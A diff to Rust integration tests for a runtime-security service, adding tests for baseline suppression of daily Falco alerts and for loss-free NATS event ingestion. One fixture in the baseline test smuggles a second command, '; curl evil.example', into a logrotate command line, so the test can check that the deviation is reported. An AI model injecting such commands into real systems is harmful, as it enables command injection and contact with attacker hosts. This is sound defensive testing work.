@@ -4,7 +4,7 @@ use std::time::{Duration, Instant};
 
 use serde_json::{Value, json};
 
-use crate::support::{Api, Backends, Data, Server};
+use crate::support::{Api, Backends, Data, Nats, Server};
 
 /// What a test may take at most; it fails then.
 const PATIENCE: Duration = Duration::from_secs(90);
@@ -131,8 +131,90 @@ fn what_a_correlation_has_counted_survives_a_kill() {
     server.start();
     let token = server.api().with_token(token.token());
     assert_eq!(token.post("/api/v1/ingest/audit", &list(6, 12)).status, 200);
-    let found = until(&server, "/api/v1/runtime/detections?rule=palisade.sigma/sigma-correlation", |page| {
+    let found = until(&server, "/api/v1/runtime/detections?rule=palisade.sigma/k8s-many-requests-forbidden", |page| {
         count(page) >= 1
     });
     assert_eq!(count(&found), 1, "{found:#}");
+}
+
+/// What a job of the workload does every day, as Falco tells it, so many hours ago.
+fn daily(number: u32, minutes_ago: i64, arguments: &str) -> Value {
+    let at = jiff::Timestamp::now() - jiff::SignedDuration::from_mins(minutes_ago);
+    json!({
+        "uuid": format!("00000000-0000-4000-8000-{number:012}"),
+        "hostname": "node-1", "priority": "Notice", "rule": "Contact K8S API Server From Container", "source": "syscall",
+        "output": "a connection to the API server", "tags": ["container"], "time": at.to_string(),
+        "output_fields": {
+            "container.id": "0123456789ab", "container.name": "web", "container.image.repository": "r/web",
+            "container.image.tag": "1", "k8s.ns.name": "shop", "k8s.pod.name": "web-1", "proc.name": "logrotate",
+            "proc.exepath": "/usr/bin/logrotate", "proc.cmdline": format!("logrotate {arguments}"), "proc.pname": "nginx",
+            "proc.pexepath": "/usr/sbin/nginx", "user.name": "root"
+        },
+    })
+}
+
+/// The baseline plugin, in the sandbox, over a week of events: what it explains is suppressed from then on, also after a kill.
+#[test]
+fn what_a_workload_does_every_day_is_suppressed_and_anything_else_is_told() {
+    const DAY: i64 = 24 * 60;
+    let data = Data::with_sample();
+    let mut server = Server::prepare(&data, &Backends::Embedded, "[events]\nlateness-seconds = 1\n");
+    server.start();
+    let token = source(&server, "falco", "falco");
+    let days = (0..30).map(|minute| 7 * DAY - minute).chain((1..7).map(|day| (7 - day) * DAY - 1));
+    let week: Vec<Value> = days.zip(0..).map(|(ago, number)| daily(number, ago, "-f a")).collect();
+    let told = token.post("/api/v1/ingest/falco", &Value::Array(week));
+    assert_eq!(told.status, 200, "{}", told.body);
+    let word = "/api/v1/runtime/detections?rule=palisade.baseline/expected-alert";
+    let word = until(&server, word, |page| count(page) >= 1);
+    let by = word["items"][0]["evidence"]["suppressedBy"].as_str().unwrap().to_owned();
+    server.kill();
+    server.start();
+    let token = server.api().with_token(token.token());
+    let today = [daily(100, 0, "-f a"), daily(101, 0, "-f a; curl evil.example")];
+    token.post("/api/v1/ingest/falco", &json!(today));
+    let rule = "/api/v1/runtime/detections?rule=sensor/falco/Contact%20K8S%20API%20Server%20From%20Container&limit=200";
+    let of = |page: &Value, number: u32| {
+        let items = page["items"].as_array().unwrap().clone();
+        let event = format!("{number:012}");
+        let proves = |one: &Value| {
+            let id = one["id"].as_str().unwrap();
+            let detail = server.api().get(&format!("/api/v1/runtime/detections/{id}"));
+            detail["events"].to_string().contains(&event)
+        };
+        items.into_iter().take(4).find(proves)
+    };
+    let found = until(&server, rule, |page| of(page, 100).is_some() && of(page, 101).is_some());
+    assert_eq!(of(&found, 100).unwrap()["suppressed_by"], by, "{found:#}");
+    assert_eq!(of(&found, 101).unwrap()["suppressed_by"], Value::Null);
+}
+
+#[test]
+fn events_of_a_stream_of_nats_are_taken_in_and_none_is_lost_while_nobody_is_there() {
+    let Some(nats) = Nats::start() else { return };
+    let stream = json!({ "name": "SENSORS", "subjects": ["sensors.>"], "storage": "file" });
+    let made = nats.request("$JS.API.STREAM.CREATE.SENSORS", &stream.to_string());
+    assert!(!made.contains("error"), "{made}");
+    let publish = |subject: &str, body: &str| {
+        let told = nats.request(subject, body);
+        assert!(told.contains("\"seq\""), "{told}");
+    };
+    publish("sensors.falco.n1", &alert(1, "Terminal shell in container", "web-1").to_string());
+    publish("sensors.other", &alert(9, "of nobody", "web-1").to_string());
+    let data = Data::with_sample();
+    let settings = format!(
+        "[events.nats.falco]\nstream = \"SENSORS\"\nsubject = \"sensors.falco.>\"\n[events.nats.falco.server]\nurl = {:?}\n",
+        nats.url
+    );
+    let mut server = Server::prepare(&data, &Backends::Embedded, &settings);
+    server.start();
+    source(&server, "falco", "falco");
+    until(&server, "/api/v1/runtime/events", |page| count(page) == 1);
+    server.kill();
+    publish("sensors.falco.n1", "no event at all");
+    publish("sensors.falco.n2", &alert(2, "Terminal shell in container", "web-1").to_string());
+    server.start();
+    let events = until(&server, "/api/v1/runtime/events", |page| count(page) == 2);
+    assert!(!events.to_string().contains("of nobody"), "{events}");
+    assert!(server.log().contains("it is passed over"), "what holds no event is told");
 }
